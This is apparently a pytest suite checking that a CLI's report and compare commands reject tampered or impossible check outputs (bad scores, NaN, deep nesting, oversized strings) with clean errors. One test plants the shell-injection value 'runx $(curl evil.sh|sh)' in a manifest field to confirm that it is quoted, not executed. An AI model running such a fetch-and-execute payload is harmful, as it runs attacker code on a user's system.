"""`report` and `compare` on check outputs edited by hand, with their digests made again so that
the edit passes the digest check: values of the right type but impossible (a score of 5, -3 cases,
NaN, an interval upside down), a manifest nested 200,000 deep, 50 MB strings in a small Parquet
file. Each is one error naming the file and the row; nothing is rendered from it."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest

from helpers import run_cli
from metalogic.engine.check.layout import COLUMN_VALUES, COLUMNS

DATA = Path(__file__).parent / "data" / "report"


def checked(tmp: Path, *extra: str) -> tuple[Path, Path]:
    """tests/data/report checked into its own output folder: (facts folder, output folder)."""
    facts = tmp / "facts"
    shutil.copytree(DATA, facts)
    out = tmp / "out"
    code, _, err = run_cli("check", str(facts), "--mrs", "paper", "--out", str(out), *extra)
    assert code == 0, err
    return facts, out


def redigest(out: Path, table: str, fmt: str, rows: int | None = None) -> None:
    """Make the manifest's SHA-256 (and row count) of one table file match what it now holds."""
    manifest = json.loads((out / "run.json").read_text())
    entry = manifest["tables"][table]
    entry["files"][fmt]["sha256"] = hashlib.sha256((out / f"{table}.{fmt}").read_bytes()).hexdigest()
    if rows is not None:
        entry["rows"] = rows
    (out / "run.json").write_text(json.dumps(manifest))


def edit_json(out: Path, table: str, change: Callable[[list[dict]], None]) -> Path:
    path = out / f"{table}.json"
    rows = json.loads(path.read_text())
    change(rows)
    path.write_text(json.dumps(rows))  # NaN is written as NaN, as a hostile editor would
    redigest(out, table, "json", len(rows))
    return path


def set_value(index: int, **values: object) -> Callable[[list[dict]], None]:
    def change(rows: list[dict]) -> None:
        rows[index].update(values)

    return change


BAD = {
    "score 5": (
        "scores",
        set_value(1, score=5.0),
        "row 2: column 'score' holds 5.0, outside 0..1 (a finite number)",
    ),
    "cases -3": (
        "scores",
        set_value(0, cases=-3),
        "row 1: column 'cases' holds -3, outside 0..9,007,199,254,740,992",
    ),
    "nan score": (
        "scores",
        set_value(2, score=float("nan")),
        "row 3: column 'score' holds nan, outside 0..1",
    ),
    "interval upside down": (
        "scores",
        set_value(0, ci_low=0.9, ci_high=0.1),
        "row 1: ci_low = 0.9 is greater than ci_high = 0.1",
    ),
    "more violations than cases": (
        "scores_by_mr",
        set_value(0, cases=1, violations=4),
        "row 1: violations = 4 is greater than cases = 1",
    ),
    "empty count": ("trajectories", set_value(0, cases=None), "row 1: column 'cases' is empty"),
    "negative state": ("frames", set_value(0, state=-1), "row 1: column 'state' holds -1, outside 0..9,007,"),
    "infinite rate": (
        "error_rates",
        set_value(0, errors_per_object=float("inf")),
        "row 1: column 'errors_per_object' holds inf, outside 0..",
    ),
    "empty agent": ("scores", set_value(0, agent=None), "row 1: column 'agent' is empty\n"),
    "empty score with cases": (
        "scores",
        set_value(0, score=None),
        "row 1: column 'score' is empty (it may be only where cases is 0)",
    ),
    "content not a term": (
        "questions",
        set_value(1, content="../../x"),
        "row 2: column 'content' holds '../../x', which is not a term",
    ),
    "long reason": (
        "violations",
        set_value(0, reason="x" * 100_001),
        "row 1: column 'reason' holds a text longer than 100,000 characters",
    ),
}


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return checked(tmp_path_factory.mktemp("pristine"))


@pytest.mark.parametrize("case", sorted(BAD))
def test_an_impossible_value_is_one_error_naming_file_and_row(
    tmp_path: Path, pristine: tuple[Path, Path], case: str
) -> None:
    table, change, what = BAD[case]
    facts, out = tmp_path / "facts", tmp_path / "out"
    shutil.copytree(pristine[0], facts)
    shutil.copytree(pristine[1], out)
    manifest = json.loads((out / "run.json").read_text())
    manifest.update(facts_dir=str(facts), facts_root=str(facts))
    (out / "run.json").write_text(json.dumps(manifest))
    path = edit_json(out, table, change)
    for args in (
        ("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html")),
        ("compare", str(out), str(out), "--agent", "steady", "--agent", "mirror"),
    ):
        if args[0] == "compare" and table != "scores":
            continue  # compare reads the scores alone
        code, _out, err = run_cli(*args)
        assert code == 2, (args[0], err)
        assert err.startswith(f"error: {path}: corrupt check table: {what}"), (args[0], err)
        assert "Traceback" not in err
    assert not (tmp_path / "r.html").exists()


def test_fifty_megabyte_strings_in_a_small_parquet_file_are_refused(tmp_path: Path) -> None:
    """Parquet compresses a repeated string to almost nothing: a few KB that expand to hundreds of
    MB of page. Each text is bounded, and so is a table's text as a whole by its file's size."""
    _facts, out = checked(tmp_path, "--format", "parquet")
    path = out / "answers.parquet"
    df = pl.read_parquet(path)
    df = df.with_columns(pl.lit("y" * 3_000_000).alias("raw_reply"))  # each under the 4 MiB of a reply
    df.write_parquet(path, compression="zstd")
    assert path.stat().st_size < 200_000
    redigest(out, "answers", "parquet")
    code, _out, err = run_cli("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html"))
    assert code == 2
    assert err.startswith(f"error: {path}: corrupt check table: its text adds up to "), err
    assert not (tmp_path / "r.html").exists()
    df.with_columns(pl.lit("y" * (4 * 2**20 + 1)).alias("raw_reply")).head(1).write_parquet(path)
    redigest(out, "answers", "parquet", rows=1)
    code, _out, err = run_cli("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html"))
    assert code == 2
    assert "row 1: column 'raw_reply' holds a text longer than 4,194,304 characters" in err


@pytest.mark.parametrize(
    ("manifest", "what"),
    [
        (
            '{"kind": "metalogic check output", "format": 2, "x": ' + "[" * 200_000 + "]" * 200_000 + "}",
            "cannot read the check manifest: it nests too deep to be read",
        ),
        (
            '{"kind": "metalogic check output", "format": 2, "x": ' + "[" * 20 + "1" + "]" * 20 + "}",
            "the check manifest is not one check writes: it nests deeper than 16 levels "
            "(at 'x.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0')",
        ),
        (
            '{"kind": "metalogic check output", "format": 2, "testcases": NaN}',
            "the check manifest is not one check writes: 'testcases' is nan, not a finite number",
        ),
        (
            '{"kind": "metalogic check output", "format": 2, "facts_dir": "' + "z" * 100_001 + '"}',
            "the check manifest is not one check writes: 'facts_dir' is a text of 100,001 characters",
        ),
    ],
    ids=["deep", "nested", "nan", "long"],
)
def test_a_manifest_too_deep_or_too_big_is_one_error(tmp_path: Path, manifest: str, what: str) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "run.json").write_text(manifest)
    for command in ("report", "compare"):
        args = [command, str(out)] + (
            [str(out), "--agent", "a", "--agent", "b"] if command == "compare" else []
        )
        code, _out, err = run_cli(*args)
        assert code == 2 and "Traceback" not in err
        assert err.startswith(f"error: {out / 'run.json'}: {what}"), err


def test_every_column_has_its_values_declared() -> None:
    """A new column needs one line in engine/check/tables.py VALUES (or engine/check/writer.py COLUMN_VALUES):
    what it may hold. A column without one would be read back unchecked."""
    for table, columns in COLUMNS.items():
        missing = [c for c in columns if c not in COLUMN_VALUES.get(table, {})]
        assert not missing, f"{table}: no VALUES declared for {', '.join(missing)}"
        extra = [c for c in COLUMN_VALUES.get(table, {}) if c not in columns]
        assert not extra, f"{table}: VALUES for columns it does not have: {', '.join(extra)}"


def test_the_fix_line_quotes_the_manifests_facts_folder(tmp_path: Path, pristine: tuple[Path, Path]) -> None:
    """A manifest's facts_dir is pasted into the fix line a user copies: quoted for the shell, it is
    one argument, never a command that runs."""
    out = tmp_path / "out"
    shutil.copytree(pristine[1], out)
    manifest = json.loads((out / "run.json").read_text())
    manifest["facts_dir"] = "runx $(curl evil.sh|sh)"
    (out / "run.json").write_text(json.dumps(manifest))
    (out / "scores.json").write_text("[]")  # its digest no longer matches
    code, _out, err = run_cli("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html"))
    assert code == 2
    assert err.endswith(
        f"  fix: run the check again: metalogic check 'runx $(curl evil.sh|sh)' --out {out} "
        "(or 'metalogic run CONFIG')\n"
    ), err


def test_a_manifest_of_another_kind_is_not_called_older(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "run.json").write_text(
        json.dumps({"kind": "someone else's", "engine": "x", "facts_dir": "f", "agents": []})
    )
    code, _out, err = run_cli("report", str(out))
    assert code == 2
    assert err.startswith(
        f"error: {out / 'run.json'}: {out / 'run.json'} was not written by 'metalogic check --out'\n"
    )
    assert "older metalogic" not in err


def test_compare_out_where_nothing_can_be_written_is_one_error(pristine: tuple[Path, Path]) -> None:
    out = str(pristine[1])
    code, _out, err = run_cli(
        "compare", out, out, "--agent", "steady", "--agent", "mirror", "--out", "/proc/x.csv"
    )
    assert code == 2 and "Traceback" not in err
    assert err.startswith("error: cannot write /proc/x.csv: "), err
    assert err.endswith(
        "  expected: --out a file in a folder you can write to\n  fix: choose another --out\n"
    )


@pytest.mark.parametrize(
    ("key", "value", "what"),
    [
        ("params", {"eps": "abc"}, "'params' is {'eps': 'abc'}, not a table of whole numbers"),
        ("param_scale", {"eps": 0}, "'param_scale' is {'eps': 0}, not a table of whole numbers from 1"),
        ("facts", "x", "'facts' is 'x', not a whole number from 0"),
        ("testcases", -1, "'testcases' is -1, not a whole number from 0"),
        ("files", 5, "'files' is 5, not a list of text"),
        ("rules", [1], "'rules' is [1], not a table of text"),
        (
            "mrs",
            [1],
            "'mrs' is [1], not a list of MRs (each with the text id, name and law, and serves: a list",
        ),
        ("agents", [None], "'agents' is [None], not a list of text"),
    ],
)
def test_a_manifest_entry_of_another_kind_is_one_error(
    tmp_path: Path, pristine: tuple[Path, Path], key: str, value: object, what: str
) -> None:
    """Each once a TypeError, ValueError or ZeroDivisionError traceback in report or compare."""
    out = tmp_path / "out"
    shutil.copytree(pristine[1], out)
    manifest = json.loads((out / "run.json").read_text())
    manifest[key] = value
    (out / "run.json").write_text(json.dumps(manifest))
    for args in (
        ("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html")),
        ("compare", str(out), str(out), "--agent", "steady", "--agent", "mirror"),
    ):
        code, _out, err = run_cli(*args)
        assert code == 2 and "Traceback" not in err, err
        assert err.startswith(
            f"error: {out / 'run.json'}: the check manifest is not one check writes: {what}"
        ), err


def test_a_table_entry_of_another_kind_is_one_error(tmp_path: Path, pristine: tuple[Path, Path]) -> None:
    out = tmp_path / "out"
    shutil.copytree(pristine[1], out)
    manifest = json.loads((out / "run.json").read_text())
    manifest["tables"]["scores"]["files"]["json"] = 5
    (out / "run.json").write_text(json.dumps(manifest))
    code, _out, err = run_cli("compare", str(out), str(out), "--agent", "steady", "--agent", "mirror")
    assert code == 2 and "Traceback" not in err
    assert err.startswith(
        f"error: {out / 'run.json'}: the check manifest's entry for the json file of the 'scores' table "
        "names no file\n"
    ), err
